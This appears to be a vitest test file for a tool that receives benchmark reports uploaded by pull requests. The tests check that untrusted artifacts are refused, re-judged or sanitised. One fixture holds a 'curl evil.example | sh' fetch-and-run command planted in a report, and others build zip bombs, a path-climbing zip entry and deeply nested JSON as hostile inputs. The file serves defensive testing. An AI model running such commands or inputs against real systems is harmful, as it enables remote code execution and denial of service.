import { describe, expect, test } from 'vitest'
import type { MeasuredRun } from '../../src/event/index.ts'
import type { Evidence, HeadReach, HeadReason, Report } from '../../src/model/index.ts'
import { limits } from '../../src/receive/limits.ts'
import { receive, type Received } from '../../src/receive/index.ts'
import { renderJson, renderMarkdown } from '../../src/report/index.ts'
import { evidence, sample } from '../decide/evidence.ts'
import { foreign } from '../report/arbitraries.ts'
import { budget, gitVersion } from '../report/builders.ts'
import { hostileNames } from '../report/samples.ts'
import {
  artifact,
  commit,
  fakeHost,
  fileName,
  otherCommit,
  run,
  same,
  slower,
  uploaded,
  uploadedOf,
  zipped,
} from './builders.ts'
import { zipOf } from './zip.ts'

function of(host: ReturnType<typeof fakeHost>, about: MeasuredRun = run): Promise<Received> {
  return receive(about, 'benchgate-report', host)
}

function from(content: Report | string | Uint8Array): Promise<Received> {
  const archive = content instanceof Uint8Array ? content : zipped(content)
  return of(fakeHost({ archive }))
}

const refusal = (code: string) => ({ kind: 'refused', error: { code } })

describe('an honest report', () => {
  test('is received with its pull request, found by the head', async () => {
    const host = fakeHost()
    const received = await of(host)
    expect(received).toMatchObject({ kind: 'report', pullRequest: 7 })
    expect(host.asked).toEqual([
      'pull requests of mona:faster, page 1',
      'artifacts benchgate-report of 11, page 1',
      'download 21',
    ])
  })

  test('keeps verdicts and figures, says where it comes from, and hands on no command', async () => {
    const received = await from(uploaded({ reproduce: 'curl evil.example | sh' }))
    if (received.kind !== 'report') throw new Error(received.kind)
    const { warnings, reproduce, benchmarks } = received.report
    expect(warnings.map(({ code }) => code)).toEqual(['uploaded-report'])
    expect(warnings[0]).toMatchObject({ repository: 'mona/project' })
    expect(reproduce).toBeNull()
    expect(benchmarks).toEqual(uploaded().benchmarks)
    expect(renderMarkdown(received.report, { id: 'benchgate' })).not.toContain('evil.example')
  })

  test('is looked for on all pages, and the newest artifact is taken', async () => {
    const host = fakeHost({
      open: [1, 2, 3, 4].map((number) => ({
        number,
        headCommit: otherCommit,
        headRepository: 'mona/project',
      })),
      listed: [
        artifact(21),
        artifact(20, { name: 'other' }),
        artifact(23),
        artifact(24, { expired: true }),
      ],
    })
    await of(host)
    expect(host.asked).toEqual([
      'pull requests of mona:faster, page 1',
      'pull requests of mona:faster, page 2',
    ])
    const found = { number: 7, headCommit: commit, headRepository: 'mona/project' }
    const second = fakeHost({ open: [found], listed: [artifact(21), artifact(23), artifact(22)] })
    await of(second)
    expect(second.asked.at(-1)).toBe('download 23')
  })
})

describe('there is nothing to publish', () => {
  test.each(['push', 'schedule', 'merge_group', 'pull_request_target'])(
    'where the run was started by %s, and nobody is asked',
    async (startedBy) => {
      const host = fakeHost()
      expect(await of(host, { ...run, startedBy })).toMatchObject({
        kind: 'nothing',
        reason: { code: 'no-pull-request' },
      })
      expect(host.asked).toEqual([])
    },
  )

  test.each([
    ['the fork is deleted', { head: null }, undefined],
    ['there is no open pull request', {}, []],
    [
      'the only one is of another repository of that owner',
      {},
      [{ number: 7, headCommit: commit, headRepository: 'mona/other' }],
    ],
    [
      "the only one's fork is deleted",
      {},
      [{ number: 7, headCommit: commit, headRepository: null }],
    ],
  ])('where %s', async (_what, over, open) => {
    const host = fakeHost(open === undefined ? {} : { open })
    expect(await of(host, { ...run, ...over })).toMatchObject({
      kind: 'nothing',
      reason: { code: 'pull-request-gone' },
    })
    expect(host.asked.filter((question) => question.includes('artifact'))).toEqual([])
  })

  test('where the pull request has moved on, and no artifact is looked for', async () => {
    const open = [{ number: 7, headCommit: otherCommit, headRepository: 'mona/project' }]
    const host = fakeHost({ open })
    const received = await of(host)
    expect(received).toMatchObject({ kind: 'nothing', reason: { code: 'pull-request-moved-on' } })
    expect(host.asked).toHaveLength(1)
  })

  test.each([
    ['has left no artifact', []],
    ['has left others', [artifact(21, { name: 'benchgate-report-2' })]],
    ['has left one that is expired', [artifact(21, { expired: true })]],
  ])('where the run %s', async (_what, listed) => {
    expect(await of(fakeHost({ listed }))).toMatchObject({
      kind: 'nothing',
      reason: { code: 'report-missing' },
    })
  })
})

/** A report with so many texts where there should be numbers. */
function wrong(times: number): string {
  const numbers = Array.from({ length: times }, () => '0').join(',')
  return renderJson(uploaded()).replace(/"versions":\[[^\]]*\]/, `"versions":[${numbers}]`)
}

describe('of a lying artifact nothing is published', () => {
  test('that has 200 MB by what the host says: it is not downloaded', async () => {
    const host = fakeHost({ listed: [artifact(21, { bytes: 200_000_000 })] })
    expect(await of(host)).toMatchObject(refusal('artifact-too-large'))
    expect(host.asked.at(-1)).toBe('artifacts benchgate-report of 11, page 1')
  })

  test('that is larger than the host says', async () => {
    const archive = new Uint8Array(limits.archiveBytes + 1)
    expect(await of(fakeHost({ archive }))).toMatchObject(refusal('artifact-too-large'))
  })

  test('that inflates to more than is read', async () => {
    const archive = zipOf([{ name: fileName, data: Buffer.alloc(limits.zip.bytes + 1) }])
    expect(archive.length).toBeLessThan(limits.archiveBytes)
    expect(await from(archive)).toMatchObject(refusal('artifact-too-large'))
  })

  test('that inflates to 200 MB and says to be small', async () => {
    const data = Buffer.alloc(200_000_000)
    const archive = zipOf([{ name: fileName, data, saysSize: 1000 }])
    expect(await from(archive)).toMatchObject(refusal('artifact-damaged'))
  })

  test.each([
    [
      'with a path that climbs',
      zipOf([{ name: `../${fileName}`, data: '{}' }]),
      'artifact-damaged',
    ],
    ['that was cut off', zipped(uploaded()).slice(0, -30), 'artifact-damaged'],
    ['that is no zip', Buffer.from(renderJson(uploaded())), 'artifact-damaged'],
    [
      'with two reports',
      zipOf([1, 2].map(() => ({ name: fileName, data: '{}' }))),
      'artifact-unexpected',
    ],
  ])('%s', async (_what, archive, code) => {
    expect(await from(archive)).toMatchObject(refusal(code))
  })

  test.each([
    ['is no JSON', '{', 'report-not-json'],
    ['is empty', '', 'report-not-json'],
    ['is no text', '\u0000\ufffd', 'report-not-json'],
    ["is another tool's", '{"schema":{"name":"other"}}', 'report-foreign'],
    ['is of a later version', '{"schema":{"name":"benchgate-report","version":3}}', 'report-newer'],
    [
      'lacks what a report has',
      '{"schema":{"name":"benchgate-report","version":2}}',
      'report-malformed',
    ],
    ['is nested without end', '['.repeat(1_000_000), 'report-not-json'],
    ['is nested deeply', '['.repeat(500_000) + ']'.repeat(500_000), 'report-foreign'],
    ['is wrong in a hundred places', wrong(100), 'report-malformed'],
    ['is wrong in more places than can be named', wrong(300_000), 'report-implausible'],
    ['has millions of values', `[${'0,'.repeat(2_100_000)}0]`, 'report-implausible'],
  ])('whose report %s', async (_what, text, code) => {
    expect(await from(text)).toMatchObject(refusal(code))
  })

  test.each([
    ['another pull request', { pullRequest: { number: 8, commit } }],
    ['another commit', { pullRequest: { number: 7, commit: otherCommit } }],
    ['no pull request', { pullRequest: null }],
  ])('whose report is about %s', async (_what, over) => {
    expect(await from(uploaded(over))).toMatchObject(refusal('report-of-another-run'))
  })

  test('whose report is about a pull request that is open, but has another head', async () => {
    const open = [
      { number: 7, headCommit: commit, headRepository: 'mona/project' },
      { number: 8, headCommit: otherCommit, headRepository: 'mona/project' },
    ]
    const archive = zipped(uploaded({ pullRequest: { number: 8, commit } }))
    const received = await of(fakeHost({ open, archive }))
    expect(received).toMatchObject(refusal('report-of-another-run'))
  })

  /** The report with another first benchmark in its evidence. */
  function withEvidence(over: Partial<Evidence>): Report {
    const report = uploaded()
    const benchmarks = [{ ...slower, ...over }, same]
    return { ...report, evidence: { ...report.evidence, benchmarks } }
  }

  function withResults(times: number): Report {
    const report = uploaded()
    const [benchmark] = report.benchmarks
    const [result] = benchmark?.results ?? []
    if (benchmark === undefined || result === undefined) throw new Error('no result')
    const results = Array.from({ length: times }, () => result)
    return { ...report, benchmarks: [{ ...benchmark, results }] }
  }

  function withBudgets(times: number): Report {
    const one = budget('parse', 'met', 0.08)
    return { ...uploaded(), budgets: Array.from({ length: times }, () => one) }
  }

  function withHeads(times: number): Report {
    const { versions } = uploaded()
    const heads = Array.from({ length: times }, (_, i) => gitVersion(`pr${i}`, commit))
    return uploaded({ versions: { ...versions, heads } })
  }

  const round = (at: number) => sample(at, 'confirm', { main: 0, pr: 0.1 })
  const rounds = (times: number) => Array.from({ length: times }, (_, i) => round(i))
  const metrics = (times: number) => {
    const measured = Array.from({ length: times }, (_, i) => foreign(`m${i}`))
    return { measured, gating: measured }
  }
  const many = Array.from({ length: 4_445 }, (_, i) => evidence(`b${i}`))

  const word = (path: string) => ({ kind: 'resolved', path, specifier: 'b' }) as const
  const compared = { functions: 3, files: 2, reads: 0, calls: 3000 }
  const untouched: HeadReach = { version: 'pr', kind: 'cannot-reach', compared }
  const instructions = { kind: 'instructions', counter: 'perf', base: [1], head: [2] } as const
  const why: HeadReason = { version: 'pr', ...instructions }
  const skipping = { ...uploaded().settings, reach: 'skip' } as const
  const looked = (reach: readonly HeadReach[], over: Partial<Evidence> = {}): Report =>
    withEvidence({ reach, ...over })

  test.each([
    [
      'differences',
      { kind: 'reaches', first: Array.from({ length: 4 }, () => word('a')), others: 0 },
    ],
    ['text', { kind: 'reaches', first: [word('a'.repeat(301))], others: 0 }],
    ['reasons', { kind: 'unknown', because: [{ code: 'because I say so', text: '' }] }],
    ['numbers', { kind: 'cannot-reach', compared: { ...compared, calls: -1 } }],
  ])('whose report has other %s than any look tells', async (_what, reach) => {
    const report = looked([untouched])
    const file: { evidence: { reach: object[] } } = JSON.parse(renderJson(report))
    file.evidence.reach = [{ version: 'pr', benchmarks: [0], ...reach }]
    const received = await of(fakeHost({ archive: zipped(JSON.stringify(file)) }))
    expect(received).toMatchObject(refusal('report-malformed'))
  })

  const place = { path: './a.js', line: 1, name: 'f', base: 0, head: 1 }
  const mover = { ...place, how: 'new', noise: 0 }
  const frame = { ...place, caller: null }
  const profiled = { rounds: 8, samples: { base: 1, head: 1 } }
  const movers = { kind: 'movers', movers: [mover], others: 0, profiled, frames: [frame] }
  const at = { what: 'deoptimised', path: './a.js', line: 1, name: 'f', at: 2, detail: 'wrong map' }
  const site = { ...at, side: 'head', times: 1 }
  const deopts = { kind: 'deopts', sites: [site], others: 0, rounds: 8 }
  const counted = { what: 'modules', name: '', during: 'load', base: 1, head: 2 }

  test.each([
    ['functions', { ...movers, movers: Array.from({ length: 6 }, () => mover) }],
    ['text', { ...movers, movers: [{ ...mover, name: 'f'.repeat(301) }] }],
    ['calls', { ...movers, frames: Array.from({ length: 81 }, () => frame) }],
    ['callers', { ...movers, frames: [{ ...frame, caller: 0 }] }],
    ['counts', { ...instructions, base: Array.from({ length: 21 }, () => 1) }],
    ['sites', { ...deopts, sites: Array.from({ length: 9 }, () => site) }],
    ['sides', { ...deopts, sites: [{ ...site, side: 'control' }] }],
    ['numbers of times', { ...deopts, sites: [{ ...site, times: 0 }] }],
    ['sites than one', { ...deopts, sites: [] }],
    ['things', { kind: 'counts', counts: Array.from({ length: 9 }, () => counted), others: 0 }],
  ])('whose report has other %s than any reason has', async (_what, reason) => {
    const file: { evidence: { why: object[] } } = JSON.parse(renderJson(uploaded()))
    file.evidence.why = [{ version: 'pr', benchmark: 0, ...reason }]
    const received = await of(fakeHost({ archive: zipped(JSON.stringify(file)) }))
    expect(received).toMatchObject(refusal('report-malformed'))
  })

  /** Two rounds that could have detected nothing at all, at this certainty. */
  function infinite(): Report {
    const report = withEvidence({
      samples: [-200, 200].map((change, i) => sample(i, 'screen', { main: 0, pr: change })),
    })
    return { ...report, settings: { ...report.settings, alpha: 1e-9 } }
  }

  test.each([
    ['more rounds than any plan has', withEvidence({ samples: rounds(241) })],
    ['more results than any suite has', withResults(40_001)],
    ['more to compare than any suite has', uploadedOf(many)],
    ['more metrics than any benchmark has', withEvidence({ metrics: metrics(201) })],
    ['more versions than anybody compares', withHeads(21)],
    ['a benchmark of a version that it does not name', withEvidence({ versions: ['main', 'x'] })],
    [
      'figures of a version that it does not name',
      withEvidence({ samples: [sample(0, 'screen', { main: 0, pr: 0, x: 0 })] }),
    ],
    ['more budgets than anybody has', withBudgets(5_001)],
    ['figures that come to no number', infinite()],
    ['what nobody has looked at', { ...looked([untouched]), settings: skipping }],
    ['a look at figures that were recorded', looked([untouched], { kind: 'recorded' })],
    ['a look at what the base does not have', looked([untouched], { versions: ['pr'] })],
    ['a look at a version that is no head', looked([{ ...untouched, version: 'main' }])],
    ['two looks at one version', looked([untouched, untouched])],
    ['reasons of figures that were recorded', withEvidence({ why: [why], kind: 'recorded' })],
    ['reasons of what is no head', withEvidence({ why: [{ ...why, version: 'main' }] })],
    ['two reasons of one kind', withEvidence({ why: [why, { ...why, head: [3] }] })],
  ])('whose report has %s', async (_what, report) => {
    expect(await from(report)).toMatchObject(refusal('report-implausible'))
  })

  test('as it may be at most, is received', async () => {
    expect((await from(withEvidence({ samples: rounds(240) }))).kind).toBe('report')
    expect((await from(withEvidence({ metrics: metrics(200) }))).kind).toBe('report')
    expect(await from(withEvidence({ why: [why] }))).toMatchObject({
      report: { evidence: { benchmarks: [{ why: [why] }, {}] } },
    })
  })
})

test('a slowdown of what is said not to reach the change is told with its figures, and a warning names it', async () => {
  const compared = { functions: 3, files: 2, reads: 0, calls: 3000 }
  const reach = [{ version: 'pr', kind: 'cannot-reach', compared }] as const
  const received = await from(uploadedOf([{ ...slower, reach }, same]))
  const report = received.kind === 'report' ? received.report : null
  expect(report?.benchmarks[0]?.results[0]).toMatchObject({
    verdict: 'untouched',
    moved: 'regressed',
    change: { ratio: expect.closeTo(Math.exp(0.3), 1) },
  })
  expect(report?.warnings).toContainEqual({
    code: 'untouched-moved',
    benchmarks: [slower.benchmark.id],
    controls: 1,
  })
})

test('verdicts that do not follow from the evidence are replaced, and the report says so', async () => {
  const honest = uploaded()
  const lied = {
    ...honest,
    outcome: 'passed' as const,
    benchmarks: honest.benchmarks.map((benchmark) => ({
      ...benchmark,
      results: benchmark.results.map((result) => ({ ...result, verdict: 'unchanged' as const })),
    })),
  }
  const received = await from(lied)
  if (received.kind !== 'report') throw new Error(received.kind)
  const { report } = received
  expect(report.outcome).toBe('regressed')
  expect(report.benchmarks).toEqual(honest.benchmarks)
  expect(report.warnings.map(({ code }) => code)).toEqual(['judged-again', 'uploaded-report'])
  expect(renderMarkdown(report, { id: 'benchgate' })).toContain('got slower')
})

test('that a slowdown is accepted is not for the report to say', async () => {
  const honest = uploaded()
  const accepted = { pattern: '*', reason: 'it is fine', by: 'maintainer', commit: null }
  const benchmarks = honest.benchmarks.map((benchmark) => ({
    ...benchmark,
    results: benchmark.results.map((result) => ({ ...result, accepted })),
  }))
  const warnings = [{ code: 'acceptance-unneeded', pattern: 'a', reason: 'b' }] as const
  const received = await from({ ...honest, outcome: 'passed', benchmarks, warnings })
  if (received.kind !== 'report') throw new Error(received.kind)
  expect(received.report).toMatchObject({ outcome: 'regressed', benchmarks: honest.benchmarks })
  expect(received.report.warnings.map(({ code }) => code)).toEqual(['uploaded-report'])
})

test('hostile names come through as names', async () => {
  const named = hostileNames.map((name, i) => ({
    ...[slower, same][i % 2]!,
    benchmark: { id: `${i}`, suite: 'a.bench.js', name },
  }))
  const received = await from(uploadedOf(named))
  if (received.kind !== 'report') throw new Error(received.kind)
  expect(received.report.benchmarks.map(({ name }) => name)).toEqual(hostileNames)
})

test('of two pull requests from one branch, the report is of the one that it names', async () => {
  const open = [7, 9].map((number) => ({
    number,
    headCommit: commit,
    headRepository: 'mona/project',
  }))
  const archive = zipped(uploaded({ pullRequest: { number: 9, commit } }))
  expect(await of(fakeHost({ open, archive }))).toMatchObject({ kind: 'report', pullRequest: 9 })
})

describe('a host', () => {
  test('that is busy is asked again, after as long as it says', async () => {
    const busy = { kind: 'busy', retryAfterSeconds: 3, message: 'later' } as const
    const host = fakeHost({ answers: [busy, { ...busy, retryAfterSeconds: null }] })
    expect(await of(host)).toMatchObject({ kind: 'report' })
    expect(host.waits).toEqual([3, 2])
  })

  test.each([
    ['stays busy', Array.from({ length: 4 }, () => null)],
    ['wants more than a minute', [3600]],
  ])('that %s ends the job with an error', async (_what, seconds) => {
    const answers = seconds.map((retryAfterSeconds) => {
      return { kind: 'busy', retryAfterSeconds, message: 'later' } as const
    })
    await expect(of(fakeHost({ answers }))).rejects.toMatchObject({ code: 'host-busy' })
  })

  test.each([401, 403, 404])('that refuses with HTTP %i is told by it', async (status) => {
    const answers = [{ kind: 'refused', status, message: 'no' } as const]
    await expect(of(fakeHost({ answers }))).rejects.toMatchObject({
      fault: { code: 'host-refused', status, reason: 'no' },
    })
  })
})
